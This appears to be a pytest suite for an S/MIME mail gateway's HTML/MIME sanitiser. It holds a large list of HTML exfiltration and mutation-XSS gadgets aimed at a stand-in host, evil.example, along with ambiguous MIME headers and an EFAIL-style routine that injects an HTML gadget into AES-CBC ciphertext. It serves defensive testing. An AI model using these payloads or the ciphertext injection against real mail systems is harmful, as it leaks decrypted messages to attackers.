"""Everything by which HTML and MIME reach outside, in content that nobody vouches for (J03)."""

from __future__ import annotations

import base64
import random
from dataclasses import replace

import pytest

from smimegw.cms.algorithms import ContentCipher, KeyEncryption
from smimegw.cms.envelope import Recipient, encrypt
from smimegw.errors import DecryptionError
from smimegw.mime.entity import Entity
from smimegw.smime.decrypt import decrypt
from smimegw.smime.disarm import disarm
from smimegw.smime.media_types import EncryptedLayer, layer_of
from tests.attacks.cast import Cast, html, multipart, p7m
from tests.attacks.remote import references
from tests.fakes.smime import ALICE, pkcs7, reader
from tests.unit.cms.people import compressed

URL = "http://evil.example/?"
GADGETS = {
    "img": f'<img src="{URL}secret">',
    "img-unquoted": f"<img src={URL}secret>",
    "img-half-quoted": f"<img ignore='x' src='{URL}secret",
    "img-slash": f"<img/src={URL}secret/>",
    "img-case": f"<IMG SRC={URL}secret>",
    "img-new-lines": f"<img\r\nsrc\r\n=\r\n'{URL}sec\r\nret'>",
    "img-entities": "<img src='&#104;ttp&colon;//evil.example/secret'>",
    "img-controls": "<img src='\x01h\tt\ntp://evil.example/secret'>",
    "img-no-scheme": "<img src=//evil.example/secret>",
    "img-backslashes": r"<img src=\\evil.example\secret>",
    "img-http-without-slashes": "<img src=http:evil.example/secret>",
    "img-file": r"<img src=file://evil.example/share/secret>",
    "img-data": "<img src='data:image/svg+xml,<svg><image href=http://evil.example/>'>",
    "image": f"<image src={URL}secret>",
    "srcset": f"<img srcset='{URL}1x 1x, {URL}2x 2x'>",
    "picture": f"<picture><source srcset={URL}s><img></picture>",
    "lowsrc": f"<img lowsrc={URL}s dynsrc={URL}s longdesc={URL}s>",
    "usemap": f"<map name=m><area href={URL}s></map><img usemap={URL}s>",
    "background": f"<body background={URL}s><table background={URL}s><td background={URL}s>x",
    "bgsound": f"<bgsound src={URL}s>",
    "poster": f"<video poster={URL}s src={URL}s></video>",
    "audio": f"<audio src={URL}s autoplay></audio>",
    "track": f"<video><track src={URL}s default></video>",
    "iframe": f"<iframe src={URL}s srcdoc='<img src={URL}s>'></iframe>",
    "frame": f"<frameset><frame src={URL}s></frameset>",
    "object": f"<object data={URL}s codebase={URL}s></object><embed src={URL}s>",
    "applet": f"<applet code=x codebase={URL}s archive={URL}s></applet>",
    "link-css": f"<link rel=stylesheet href={URL}s>",
    "link-prefetch": f"<link rel=dns-prefetch href={URL}s><link rel=preconnect href={URL}s>",
    "link-manifest": f"<html manifest={URL}s>",
    "style-import": f"<style>@import url({URL}s);</style>",
    "style-image": f"<style>p{{background:url('{URL}s')}}</style><p>x",
    "style-attribute": f'<p style="background:u\\72l({URL}s)">x',
    "style-font": f"<style>@font-face{{font-family:x;src:url({URL}s)}}</style>",
    "style-leaves": "<style>* { content: '<img src=http://evil.example/s>'",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={URL}s'>",
    "meta-set-cookie": f"<meta http-equiv=link content='<{URL}s>; rel=stylesheet'>",
    "base": f"<base href={URL}s><img src=secret>",
    "form": f"<form action={URL}s><textarea name=d>secret",
    "form-button": f"<button formaction={URL}s>x</button><input type=image src={URL}s>",
    "isindex": f"<isindex action={URL}s>",
    "a": f"<a href='{URL}secret'>x</a>",
    "a-ping": f"<a href=mailto:x@y ping={URL}s>x</a>",
    "a-javascript": "<a href='java\tscript:alert(1)'>x</a>",
    "a-attribution": f"<a attributionsrc={URL}s>x</a>",
    "script": f"<script src={URL}s></script><script>new Image().src='{URL}'</script>",
    "onerror": f"<img src=cid:x onerror=\"this.src='{URL}'\">",
    "svg": f"<svg><image xlink:href={URL}s /><use href={URL}s /></svg>",
    "svg-style": f"<svg><style>@import '{URL}s'</style></svg>",
    "svg-title": f"<svg><title><img src={URL}s></title></svg>",
    "math": f"<math href={URL}s><mtext xlink:href={URL}s>x</math>",
    "blockquote-cite": f"<blockquote cite={URL}s><q cite={URL}s><ins cite={URL}s>x",
    "portal": f"<portal src={URL}s></portal>",
    "xml-stylesheet": f"<?xml-stylesheet href='{URL}s'?>",
    "doctype": f"<!DOCTYPE html PUBLIC 'x' '{URL}s'>",
    "conditional-comment": f"<!--[if mso]><img src={URL}s><![endif]--><!--[if gte vml 1]><v:fill "
    f"src={URL}s /><![endif]-->",
    "vml": f"<v:image src={URL}s /><v:fill type=frame src={URL}s />",
    "comment-ends-early": f"<!--><img src={URL}s>-->",
    "comment-ends-with-bang": f"<!-- x --!><img src={URL}s>-->",
    "comment-in-attribute": f"<img alt='<!--' src={URL}s title='-->'>",
    "cdata": f"<svg><![CDATA[><img src={URL}s>]]></svg>",
    "noscript": f'<noscript><p title="</noscript><img src={URL}s>"></noscript>',
    "textarea": f'<textarea><img title="</textarea><img src={URL}s>">',
    "xmp": f'<xmp><img title="</xmp><img src={URL}s>">',
    "title": f'<title><img title="</title><img src={URL}s>">',
    "plaintext": f"<plaintext><img src={URL}s>",
    "template": f"<template shadowrootmode=open><img src={URL}s></template>",
    "select": f"<select><option><img src={URL}s></select>",
    "mxss-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='
    f'{URL}s&gt;">',
    "mxss-svg": f'<svg></p><style><a id="</style><img src={URL}s>">',
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src="
    f"{URL}s></style></mglyph></form>",
    "mxss-table": f"<table><td><svg><desc><td><title></title><style></td></style><img src={URL}s>",
    "nul-in-tag": f"<i\0mg src={URL}s><img\0 src={URL}s>",
    "utf-7": "+ADw-img src+AD0-http://evil.example/s+AD4-",
}  # fmt: skip
CRLF, _7BIT = b"\r\n", b"Content-Transfer-Encoding: 7bit"
ALPHABETS = (b"utf-8", b"iso-8859-1", b"us-ascii", b"gb18030", b"shift_jis", b"big5", b"euc-kr")


def _delivered(entity: bytes) -> bytes:
    return b"MIME-Version: 1.0\r\n" + disarm(Entity.parse(entity)).raw


def _part(markup: str, kind: bytes = b"text/html; charset=utf-8") -> bytes:
    return b"Content-Type: " + kind + b"\r\n\r\n" + markup.encode() + b"\r\n"


@pytest.mark.parametrize("name", GADGETS)
def test_html_reaches_nothing_outside(name: str) -> None:
    """Read by another parser than the one that cleaned it, alone and between text (cases J03)."""
    before, after = GADGETS[name], f"<p>Dear Bob,</p>{GADGETS[name]}<p>yours</p>"
    assert references(_delivered(_part(before))) == []
    delivered = _delivered(_part(after))
    assert references(delivered) == []
    assert references(_delivered(delivered)) == []


def test_the_reader_of_these_tests_finds_references() -> None:
    """The measuring device works: of most gadgets it sees something as long as they are armed."""
    unseen = ("xml", "doctype", "utf", "xmp", "plain", "isindex", "style-l", "noscript", "texta")
    unseen += ("mxss", "nul", "img-half", "title", "comment", "cdata")  # browsers see it, not this
    for name, markup in GADGETS.items():
        armed = b"MIME-Version: 1.0\r\n" + _part(markup)
        assert name.startswith(unseen) or references(armed), name


@pytest.mark.parametrize("charset", ALPHABETS)
def test_character_set_is_unambiguous_afterwards(charset: bytes) -> None:
    """A quote that is half of another letter elsewhere opens no attribute (cases J03)."""
    markup = b"<p title='\x81\x27><img src=http://evil.example/s>'>\xe4\x3c</p>"
    kind = b"Content-Type: text/html; charset=" + charset + b"\r\n\r\n"
    assert references(_delivered(kind + markup)) == []


@pytest.mark.parametrize(
    "charset", [b"utf-7", b"utf-16", b"utf-32", b"x-user-defined", b"hz-gb-2312", b"idna"]
)
def test_html_in_a_doubtful_character_set_is_an_attachment(charset: bytes) -> None:
    """Nobody knows what a mail program would see in it (cases J03)."""
    result = disarm(Entity.parse(_part("<b>x</b>", b"text/html; charset=" + charset)))
    assert result.content_type.media_type == "application/octet-stream"


ACTIVE = (
    *(b"application/xhtml+xml", b"image/svg+xml", b"text/xml", b"application/xml"),
    b"text/calendar",
    *(b"text/vcard", b"text/x-amp-html", b"text/enriched", b"text/css", b"text/javascript"),
    *(b"application/ms-tnef; name=winmail.dat", b"application/vnd.apple.mpegurl", b"audio/x-scpls"),
    *(b"audio/x-mpegurl", b"application/x-shockwave-flash", b"application/mbox; name=a.eml"),
    *(b'message/external-body; access-type=url; URL="http://evil.example/"', b"message/partial"),
    *(b"application/octet-stream; name=a.html", b"application/pdf; name=x.svg", b"text"),
    *(b"text/html; charset=utf-8; charset=utf-7", b"multipart/mixed", b"image/unknown"),
)  # fmt: skip


@pytest.mark.parametrize("kind", ACTIVE)
def test_other_active_types_are_attachments(kind: bytes) -> None:
    """What a mail program might interpret is saved and not shown (cases J03)."""
    for entity in (_part("<svg>", kind), multipart(b"mixed", html(b"x"), _part("<svg>", kind))):
        delivered = _delivered(entity)
        assert references(delivered) == []
        assert b"Content-Type: application/octet-stream\r\n" in delivered
        assert b"Content-Disposition: attachment" in delivered


@pytest.mark.parametrize(
    "fields",
    [
        b"Content-Type: text/plain\r\nContent-Type: text/html",
        b"Content-Type : text/html",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: x-unknown",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64" + CRLF + _7BIT,
        b"Content-Type: text/html; charset=utf-8\r\n\t \r\n",
        b"no field\r\nContent-Type: text/html; charset=utf-8",
        b"Content-Location: http://evil.example/\r\nContent-Type: text/html; charset=utf-8",
        b"Content-Base: http://evil.example/\r\nContent-Type: text/plain",
    ],
)
def test_fields_with_two_readings_show_nothing(fields: bytes) -> None:
    """Neither reading of a malformed part loads anything (cases J03, I26)."""
    part = fields + b'\r\n\r\n<img src="http://evil.example/s">\r\n'
    assert references(_delivered(multipart(b"mixed", part))) == []


@pytest.mark.parametrize(
    "kind",
    [b"text/plain, text/html", b"text/plain text/html", b"text/plain (text/html", b'"text/html"'],
)
def test_type_with_two_readings_is_an_attachment(kind: bytes) -> None:
    """Some take the last word for it (cases J03, I26)."""
    result = disarm(Entity.parse(_part("<b>x</b>", kind)))
    assert result.content_type.media_type == "application/octet-stream"


def test_html_at_any_depth_is_cleaned_or_attached() -> None:
    """Frames, messages and digests around it; too deep is not looked at but attached (L11)."""
    entity = html(b'<img src="http://evil.example/s">')
    for depth in range(60):
        kind = (b"mixed", b"alternative", b"related", b"digest")[depth % 4]
        around = multipart(kind, entity).replace(b"frame", b"f%dx" % depth)
        assert references(_delivered(around)) == []
        entity = around if depth % 3 else b"Content-Type: message/rfc822\r\n\r\n" + around


def test_part_of_a_digest_is_a_message() -> None:
    """RFC 2046, 5.1.5: without a type of its own it is message/rfc822 (cases J03)."""
    inner = b"\r\nContent-Type: text/html\r\n\r\n<img src=http://evil.example/s>\r\n"
    assert b"evil" not in _delivered(multipart(b"digest", inner))


def test_more_parts_than_the_limit_are_attached() -> None:
    """1,001 parts: what is not looked at is not shown (cases L11)."""
    parts = [html(b"<img src=http://evil.example/s>")] * 1001
    assert references(_delivered(multipart(b"mixed", *parts))) == []
    nested = multipart(b"mixed", *parts[:900]).replace(b"frame", b"inner")
    assert (
        references(_delivered(multipart(b"mixed", nested, nested.replace(b"inner", b"in2")))) == []
    )


def test_text_around_the_parts_goes_when_it_holds_markup() -> None:
    """Preamble and epilogue: no part, but some program may show them."""
    entity = multipart(b"mixed", _part("x", b"text/plain")) + b"<img src=http://evil.example/s>"
    assert b"evil" not in _delivered(entity)


@pytest.mark.parametrize("inner", [b"opaque", b"compressed"])
def test_cms_inside_is_no_way_past(inner: bytes) -> None:
    """A mail program would take the layer off and show what is inside (cases J03)."""
    armed = html(b"<img src=http://evil.example/s>")
    cast = Cast()
    entity = cast.opaque_signed(armed) if inner == b"opaque" else p7m(compressed(armed))
    for frame in (entity, multipart(b"mixed", entity)):
        delivered = _delivered(frame)
        assert b"pkcs7-mime" not in delivered
        assert b'filename="smime.p7m.bin"' in delivered


def test_ciphertext_inside_stays_ciphertext() -> None:
    """It is not opened, and it is no reference (cases J01)."""
    entity = Entity.parse(Cast().encrypted())
    assert disarm(entity) is entity


def test_files_hidden_in_untyped_text_stay_text() -> None:
    """Mail programs show uuencoded files in a body whose type nobody named (cases J03)."""
    data = base64.b64encode(b"<img src=http://evil.example/s>")
    entity = Entity.parse(b"\r\nbegin-base64 644 a.html\r\n" + data + b"\r\n====\r\n")
    assert disarm(entity).content_type.media_type == "text/plain"
    assert disarm(entity).header.all("content-type")


# --- EFAIL's own gadgets --------------------------------------------------------------------------

_KNOWN = b"Content-Type: text/html; charset=utf-8\r\nX: 1\r\n\r\n<p>"
_TEXT = _KNOWN + b"Sesame-4711-Sesame " * 20
_GADGET = b"<img src=//e.io/"  # one block of 16 octets
_ATTEMPTS = 200


def _with_one_gadget(attempt: int) -> EncryptedLayer:
    """A block of Eve's, noise before it and after it, in a message that only Alice can read."""
    rng = random.Random(attempt)
    to = [Recipient(ALICE.certificate, KeyEncryption.RSA_PKCS1V15)]
    cipher = ContentCipher.AES_128_CBC
    octets = b"".join(encrypt([_TEXT], len(_TEXT), to, cipher, rng=rng.randbytes))
    layer = layer_of(pkcs7(octets))
    assert isinstance(layer, EncryptedLayer)
    enveloped = layer.enveloped
    blocks = b"".join(enveloped.encrypted_content)
    # The first block decrypts to what is known, xor the vector: so to anything, after its own.
    known = zip(_TEXT[:16], enveloped.nonce, _GADGET, strict=True)
    gadget = bytes(a ^ b ^ c for a, b, c in known) + blocks[:16]
    changed = blocks[:64] + gadget + blocks[96:]
    return replace(layer, enveloped=replace(enveloped, encrypted_content=(memoryview(changed),)))


def test_gadget_between_noise_that_looks_like_text_reaches_nothing() -> None:
    """A few in a hundred are no noise to us; what they hold is delivered disarmed (T-04, J03)."""
    opened = []
    for attempt in range(_ATTEMPTS):
        try:
            content = decrypt(_with_one_gadget(attempt), [reader(ALICE)])
        except DecryptionError:
            continue
        assert not content.authenticated
        opened.append(content.entity)
    assert 0 < len(opened) < _ATTEMPTS / 10
    for entity in opened:
        assert _GADGET in entity.body
        result = disarm(entity)
        assert references(b"MIME-Version: 1.0\r\n" + result.raw) == []
        assert b"e.io" not in result.decoded_body()
